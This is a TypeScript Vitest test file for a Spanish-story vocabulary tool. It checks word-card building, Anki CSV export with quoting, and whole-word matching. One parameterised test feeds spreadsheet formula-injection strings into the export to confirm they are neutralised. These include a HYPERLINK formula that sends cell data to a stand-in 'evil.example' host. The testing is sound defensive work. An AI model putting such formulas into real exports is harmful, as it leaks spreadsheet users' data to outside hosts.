import { expect, test } from 'vitest';
import type { Story } from '../../../../contract/schemas/stories.ts';
import { partsAround, wordCardsOf, wordsCsv } from './word-cards.ts';

const STORY = {
  id: 's1',
  title: 'El faro',
  language: 'es',
  sentences: [
    { index: 0, paragraph: 0, text: 'El faro bostezó.' },
    { index: 1, paragraph: 0, text: '—Duerme —dijo la luna.' },
  ],
  translation: {
    language: 'en',
    title: 'The lighthouse',
    sentences: [{ index: 0, text: 'The lighthouse yawned.' }],
    words: [
      { word: 'bostezó', gloss: 'yawned', index: 0 },
      { word: 'luna', gloss: 'moon, the "night sun"', index: 1 },
      { word: 'nadie', gloss: 'nobody', index: 9 },
    ],
    questions: [],
  },
} as unknown as Story;

test('a word has both sides of its sentence; a word without its sentence is dropped', () => {
  expect(wordCardsOf(STORY)).toEqual([
    {
      storyId: 's1',
      index: 0,
      word: 'bostezó',
      form: 'bostezó',
      gloss: 'yawned',
      title: 'El faro',
      language: 'es',
      other: 'en',
      sentence: 'El faro bostezó.',
      translation: 'The lighthouse yawned.',
    },
    expect.objectContaining({ word: 'luna', sentence: '—Duerme —dijo la luna.', translation: null }),
  ]);
  expect(wordCardsOf({ ...STORY, translation: undefined })).toEqual([]);
});

test('the file has the import settings of Anki and the quotes of CSV', () => {
  expect(
    wordsCsv(wordCardsOf(STORY), ['Palabra', 'Significado', 'Frase', 'Otra', 'Cuento']).split('\n'),
  ).toEqual([
    '#separator:Comma',
    '#html:false',
    '#columns:"Palabra","Significado","Frase","Otra","Cuento"',
    '"bostezó","yawned","El faro bostezó.","The lighthouse yawned.","El faro"',
    '"luna","moon, the ""night sun""","—Duerme —dijo la luna.","","El faro"',
    '',
  ]);
});

/** Cells of one row, by a CSV reader with this separator. */
function cellsOf(row: string, separator: string): string[] {
  const cells = [''];
  let isQuoted = false;
  // Two quotes are one within quotes, and an empty cell elsewhere.
  for (const sign of row.match(/""|./gs) ?? []) {
    if (sign === '""') cells.push(`${cells.pop()}${isQuoted ? '"' : ''}`);
    else if (sign === '"' && (isQuoted || cells.at(-1) === '')) isQuoted = !isQuoted;
    else if (!isQuoted && sign === separator) cells.push('');
    else cells.push(`${cells.pop()}${sign}`);
  }
  return cells;
}

test.each([
  '=HYPERLINK("http://evil.example?"&A1)',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '＝1',
  'sol;=1+1',
  'sol; -1',
  'sol;\t@A1',
])('no cell starts with a formula in a spreadsheet, with any separator: %j', (text) => {
  const [card] = wordCardsOf(STORY);
  const all = { ...card!, word: text, gloss: text, sentence: text, translation: text, title: text };
  const row = wordsCsv([all], ['a', 'b', 'c', 'd', 'e']).split('\n').slice(3).join('\n').trimEnd();
  for (const separator of [',', ';', '\t']) {
    for (const cell of cellsOf(row, separator)) expect(cell.trim()).not.toMatch(/^[=+\-@＝＋－＠]/);
  }
  // Anki shows the text unchanged: the added characters have no width.
  expect(cellsOf(row, ',').map((cell) => cell.replaceAll('\u2060', ''))).toEqual(Array(5).fill(text));
});

test.each([
  ['El sol y la sola luna.', 'sola', ['El sol y la ', 'sola', ' luna.']],
  ['Solo dijo adiós: sol.', 'sol', ['Solo dijo adiós: ', 'sol', '.']],
  ['Sol y sombra', 'sol', ['', 'Sol', ' y sombra']],
  ['Solo soledad', 'sol', null],
  ['Nada', '', null],
])('in “%s” the word “%s” is found as a whole word', (sentence, word, parts) => {
  expect(partsAround(sentence, word)).toEqual(parts);
});
